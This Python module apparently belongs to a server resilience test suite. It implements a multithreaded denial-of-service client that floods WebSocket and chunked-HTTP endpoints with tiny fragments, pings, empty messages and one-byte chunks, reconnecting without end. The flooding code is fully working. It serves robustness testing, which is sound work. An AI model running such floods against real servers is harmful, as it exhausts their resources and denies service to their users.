"""One client that sends what it has in as many pieces as there can be, as fast as they are taken.

A message of a WebSocket in fragments of two bytes, messages of no content, pings, and a body in
chunks of one byte: a few bytes each, and many times the work of as many bytes in one piece.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from itertools import count

from attacks.slow_bodies import connect

FLAGS: tuple[str, ...] = ()
_BATCH = 4096  # pieces that are sent at once
HANDSHAKE = (
    b"GET /v1/realtime HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
CHUNKED = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n"
)
_MASK = bytes(4)
FIRST = b"\x01\x82" + _MASK + b"aa"  # the first fragment of a text, which is not the last
FRAGMENT = b"\x00\x82" + _MASK + b"aa"
LAST = b"\x80\x82" + _MASK + b"aa"
PING = b"\x89\x80" + _MASK
EMPTY = b"\x81\x80" + _MASK  # a whole message without text
CHUNK = b"1\r\na\r\n"
_NUM_WITHIN = 4000  # fragments of a message that is within the limits

# Name -> what begins the connection, what is sent first, and what is sent without end.
KINDS: dict[str, tuple[bytes, bytes, bytes]] = {
    "fragments": (HANDSHAKE, FIRST, FRAGMENT * _BATCH),
    "fragments within the limits": (HANDSHAKE, b"", FIRST + FRAGMENT * _NUM_WITHIN + LAST),
    "empty messages": (HANDSHAKE, b"", EMPTY * _BATCH),
    "pings": (HANDSHAKE, b"", PING * _BATCH),
    "chunks": (CHUNKED, b"", CHUNK * _BATCH),
}


@contextmanager
def attack(url: str) -> Iterator[None]:
    """Send pieces of all kinds, each on a connection that is opened again when it has ended."""
    is_over = threading.Event()
    threads = [
        threading.Thread(target=_send_on, args=(url, name, is_over.is_set)) for name in KINDS
    ]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        is_over.set()
        for thread in threads:
            thread.join()


def _send_on(url: str, kind: str, is_over: Callable[[], bool]) -> None:
    while not is_over():
        # The server ends the connection, or does not read for a while.
        with suppress(OSError), open_connection(url, kind) as connection:
            connection.settimeout(1.0)
            send_pieces(connection, kind, is_over)


def open_connection(url: str, kind: str) -> socket.socket:
    """Return a connection that the server has taken, and that is ready for pieces of this kind."""
    beginning, first, _ = KINDS[kind]
    connection = connect(url, beginning)
    if beginning == HANDSHAKE:
        connection.recv(65536)  # a frame that came with the handshake would be lost
    connection.sendall(first)
    return connection


def send_pieces(
    connection: socket.socket, kind: str, is_over: Callable[[], bool] = lambda: False
) -> None:
    """Send pieces until the connection ends, with an `OSError`, or it is over."""
    _, _, pieces = KINDS[kind]
    rest = memoryview(pieces)
    for _ in count():
        if is_over():
            return
        with suppress(TimeoutError):
            rest = rest[connection.send(rest) :] or memoryview(pieces)
        with suppress(BlockingIOError):
            connection.recv(65536, socket.MSG_DONTWAIT)  # answers, so that the server may continue
